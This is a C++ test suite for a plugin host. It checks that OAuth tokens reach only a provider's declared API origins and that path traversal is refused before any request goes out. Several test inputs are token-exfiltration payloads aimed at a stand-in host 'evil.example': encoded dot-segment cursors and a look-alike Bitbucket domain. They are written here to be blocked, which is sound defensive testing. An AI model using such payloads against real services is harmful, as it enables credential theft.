// Issue #11: a provider's token reaches only that provider's API. The real
// host, real plugins (the egress test plugin and the shipped Atlassian one),
// the sandbox as the provider, and a RequestRecorder on another loopback
// port standing for every place a token must never reach (evil.example, or
// a proxy that normalises paths the way nginx does). No test lets that
// listener see a credential.
#include "tests/support/oauth_flow.hpp"
#include "tests/support/request_recorder.hpp"

#include <boost/json.hpp>
#include <boost/test/unit_test.hpp>

using namespace lagentry::test;

namespace {

std::string oauth_origins(const SandboxProcess& sandbox, std::initializer_list<const char*> hosts) {
  std::string map;
  for (const char* host : hosts) map += std::string("https://") + host + "=" + sandbox.base_url() + "/" + host + ",";
  return map;
}

HostOptions egress_host(const SandboxProcess& sandbox, const std::string& origins, const char* plugin = "egress_probe") {
  HostOptions options = oauth_host(sandbox, {{"LAGENTRY_UPSTREAM_ORIGINS", origins}});
  options.plugins = {test_plugin(plugin)};
  return options;
}

std::size_t count(const std::string& text, const std::string& needle) {
  std::size_t n = 0;
  for (auto at = text.find(needle); at != std::string::npos; at = text.find(needle, at + 1)) ++n;
  return n;
}

long long calls(SandboxProcess& sandbox, const std::string& route) {
  auto stats = sandbox.control("GET", "stats").at("calls").as_object();
  auto* n = stats.if_contains(route);
  return n ? n->as_int64() : 0;
}

const std::string kTry = "/api/v1/unified/egress/try?user_email=" + kUser + "&case=";
const std::string kLabelsRoute = "gmail.googleapis.com GET /gmail/v1/users/{user}/labels";
}  // namespace

BOOST_AUTO_TEST_SUITE(egress)

// Every way the test plugin tries to send the token elsewhere is refused with
// 502 plugin_error and one log line naming the plugin; nothing reaches the
// listener. Allowed requests still work, and plugin-set credential headers
// (any case) never go out.
BOOST_AUTO_TEST_CASE(a_plugin_cannot_send_a_token_off_its_api_origins) {
  RequestRecorder trap;
  SandboxProcess sandbox;
  // The provider's API is the sandbox; every other origin (http://gmail..., evil.example, port 8443) is the trap.
  const std::string origins = oauth_origins(sandbox, {"accounts.google.com", "oauth2.googleapis.com", "gmail.googleapis.com"}) +
                              "*=" + trap.base_url() + "/{host}";
  HostProcess host(egress_host(sandbox, origins));
  connect(host, sandbox, "egress");
  HttpClient api(host.port());

  auto ok = api.get(kTry + "ok");
  BOOST_REQUIRE_MESSAGE(ok.status == 200, ok.body);
  BOOST_TEST(ok.json().at("upstream_status").as_int64() == 200);

  // A lowercase "authorization" (and Cookie, Proxy-Authorization) set by the
  // plugin is dropped: the sandbox accepts the host's token, so it got only that one.
  auto forged = api.get(kTry + "lower_authorization");
  BOOST_REQUIRE_MESSAGE(forged.status == 200, forged.body);
  BOOST_TEST(forged.json().at("upstream_status").as_int64() == 200, forged.body);
  BOOST_TEST(sandbox.grants("refresh_token") == 0);  // no 401 from a forged token, so no refresh
  BOOST_TEST(calls(sandbox, kLabelsRoute) == 2);

  const std::vector<std::string> refused = {"http",          "foreign",      "foreign_port",  "userinfo", "dots",
                                            "encoded_dots",  "dot_slash",    "encoded_slash", "user_auth_foreign",
                                            "bogus_auth"};
  for (const auto& which : refused) {
    auto r = api.get(kTry + which);
    BOOST_TEST(r.status == 502, which << " -> " << r.status << " " << r.body);
    BOOST_TEST(r.error_code() == "plugin_error", which);
    BOOST_TEST(r.body.find("ya29.") == std::string::npos, which);
  }
  BOOST_TEST(calls(sandbox, kLabelsRoute) == 2);

  // Without credentials any origin may be called, still without plugin-set credential headers.
  auto open = api.get(kTry + "none_foreign");
  BOOST_REQUIRE_MESSAGE(open.status == 200, open.body);
  const auto seen = trap.requests();
  BOOST_REQUIRE_EQUAL(seen.size(), 1u);
  BOOST_TEST(seen[0].target == "/evil.example/public");
  BOOST_TEST(seen[0].headers.count("x-plugin") == 1u);
  BOOST_TEST(!trap.saw_credential(), seen[0].raw_head);

  const std::string log = host.log();
  BOOST_TEST(count(log, "[egress] egress.try: upstream request refused by the host") == refused.size(), log);
  BOOST_TEST(log.find("ya29.") == std::string::npos);
  BOOST_TEST(log.find("http://gmail.googleapis.com refused: credentials are sent only over https") != std::string::npos, log);
  BOOST_TEST(log.find("https://evil.example refused: not one of the provider's api_origins") != std::string::npos, log);
  BOOST_TEST(log.find("refused: dot segment in path") != std::string::npos, log);
  BOOST_TEST(log.find("refused: encoded '/' in path") != std::string::npos, log);
}

// The issue's proxy setup: every API origin goes to a path-normalising proxy
// at /{host}. A URL with dot segments (raw, encoded, "./") would leave its
// {host} segment there; the host refuses it before anything is sent.
BOOST_AUTO_TEST_CASE(dot_segments_never_reach_a_normalising_proxy) {
  RequestRecorder proxy;
  SandboxProcess sandbox;
  const std::string origins =
      oauth_origins(sandbox, {"accounts.google.com", "oauth2.googleapis.com"}) + "*=" + proxy.base_url() + "/{host}";
  HostProcess host(egress_host(sandbox, origins));
  connect(host, sandbox, "egress");
  HttpClient api(host.port());
  for (const char* which : {"dots", "encoded_dots", "dot_slash", "encoded_slash"}) {
    auto r = api.get(kTry + which);
    BOOST_TEST(r.status == 502, which << " -> " << r.body);
    BOOST_TEST(r.error_code() == "plugin_error", which);
  }
  BOOST_TEST(proxy.requests().empty());
  BOOST_TEST(!proxy.saw_credential());
}

// ABI 1.0-style manifest without api_origins: a clear warning at load, and
// its operations get no tokens (the request is refused, never sent).
BOOST_AUTO_TEST_CASE(a_plugin_without_api_origins_gets_no_tokens) {
  RequestRecorder trap;
  SandboxProcess sandbox;
  const std::string origins = oauth_origins(sandbox, {"accounts.google.com", "oauth2.googleapis.com", "gmail.googleapis.com"}) +
                              "*=" + trap.base_url() + "/{host}";
  HostProcess host(egress_host(sandbox, origins, "egress_bare"));
  BOOST_TEST(host.log().find("provider egress-bare declares no api_origins: its operations get no tokens") != std::string::npos,
             host.log());
  connect(host, sandbox, "egress-bare");
  HttpClient api(host.port());
  auto r = api.get("/api/v1/unified/egress-bare/try?user_email=" + kUser + "&case=ok");
  BOOST_TEST(r.status == 502, r.body);
  BOOST_TEST(r.error_code() == "plugin_error");
  BOOST_TEST(r.body.find("it declares none") != std::string::npos, r.body);
  BOOST_TEST(calls(sandbox, kLabelsRoute) == 0);
  BOOST_TEST(trap.requests().empty());
}

// The Bitbucket cursors of the issue, exactly as seen, behind the documented
// proxy form: 400 invalid_request naming the parameter, nothing sent.
BOOST_AUTO_TEST_CASE(bitbucket_cursors_and_segments_as_seen_in_the_issue) {
  RequestRecorder proxy;
  SandboxProcess sandbox;
  HostOptions options = oauth_host(sandbox, {{"LAGENTRY_UPSTREAM_ORIGINS", oauth_origins(sandbox, {"bitbucket.org"}) + "*=" +
                                                                               proxy.base_url() + "/{host}"}});
  HostProcess host(options);
  connect(host, sandbox, "bitbucket");
  HttpClient api(host.port());
  const std::string items = "/api/v1/unified/connectors/bitbucket-repositories/items?user_email=" + kUser + "&workspace=sandbox-team";
  for (const char* cursor : {"https%3A%2F%2Fapi.bitbucket.org%2F2.0%2F..%2F..%2Fevil.example%2Fsteal",
                             "https%3A%2F%2Fapi.bitbucket.org%2F2.0%2F%252e%252e%2F%252e%252e%2Fevil.example%2Fsteal",
                             "https%3A%2F%2Fapi.bitbucket.org%2F2.0%2F.%2F..%2F..%2Fevil.example%2Fsteal",
                             "https%3A%2F%2Fapi.bitbucket.org.evil.example%2F2.0%2Fx"}) {
    auto r = api.get(items + "&cursor=" + cursor);
    BOOST_TEST(r.status == 400, cursor << " -> " << r.body);
    BOOST_TEST(r.error_code() == "invalid_request", cursor);
    BOOST_TEST(r.body.find("cursor") != std::string::npos, r.body);
  }
  auto dots = api.get("/api/v1/unified/connectors/bitbucket-pullrequests/items?user_email=" + kUser + "&workspace=..&repo=..");
  BOOST_TEST(dots.status == 400, dots.body);
  BOOST_TEST(dots.error_code() == "invalid_request");
  BOOST_TEST(dots.body.find("'workspace'") != std::string::npos, dots.body);
  auto dot = api.get("/api/v1/unified/connectors/bitbucket-repositories/items?user_email=" + kUser + "&workspace=.");
  BOOST_TEST(dot.status == 400, dot.body);
  BOOST_TEST(proxy.requests().empty());
  BOOST_TEST(!proxy.saw_credential());
}

BOOST_AUTO_TEST_SUITE_END()
